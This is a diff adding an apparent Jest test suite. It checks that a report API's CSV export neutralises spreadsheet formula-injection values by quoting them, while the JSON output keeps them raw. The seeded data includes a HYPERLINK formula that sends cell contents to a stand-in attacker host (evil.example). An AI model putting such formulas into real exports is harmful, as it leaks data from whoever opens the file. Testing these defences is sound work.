@@ -134,3 +134,50 @@ describe.each(testEngines())('reports over HTTP on the sample data on %s', (engi
     );
   });
 });
+
+describe.each(testEngines())('report CSV cells that a spreadsheet would run on %s', (engine) => {
+  let t: TestApp;
+  const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+
+  beforeAll(async () => {
+    t = await startTestApp(engine);
+    const at = '2021-02-01 10:00:00.000';
+    await seed(t.dataSource, {
+      departments: [
+        { id: 1, department: formula },
+        { id: 2, department: '+1+1' },
+      ],
+      jobs: [
+        { id: 1, job: '@SUM(1+1)' },
+        { id: 2, job: '-2+3' },
+      ],
+      employees: [
+        { id: 1, name: 'A', datetime: at, department_id: 1, job_id: 1 },
+        { id: 2, name: 'B', datetime: at, department_id: 1, job_id: 2 },
+        { id: 3, name: 'C', datetime: at, department_id: 1, job_id: 2 },
+        { id: 4, name: 'D', datetime: at, department_id: 2, job_id: 1 },
+      ],
+    });
+  });
+  afterAll(async () => {
+    await t.close();
+  });
+
+  it('should prefix formula-like cells with a quote in the CSV but not in the JSON when names begin with = + - @', async () => {
+    const csv = await request(t.server).get('/reports/hires-by-quarter?year=2021&format=csv').expect(200);
+    const quoted = `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`;
+    expect(csv.text).toBe(
+      'department,job,Q1,Q2,Q3,Q4\r\n' +
+        `'+1+1,'@SUM(1+1),1,0,0,0\r\n` +
+        `${quoted},'-2+3,2,0,0,0\r\n` +
+        `${quoted},'@SUM(1+1),1,0,0,0\r\n`,
+    );
+    const above = await request(t.server)
+      .get('/reports/departments-above-mean?year=2021')
+      .set('Accept', 'text/csv')
+      .expect(200);
+    expect(above.text).toBe(`id,department,hired\r\n1,${quoted},3\r\n`);
+    const json = await request(t.server).get('/reports/departments-above-mean?year=2021').expect(200);
+    expect(json.body).toEqual([{ id: 1, department: formula, hired: 3 }]);
+  });
+});
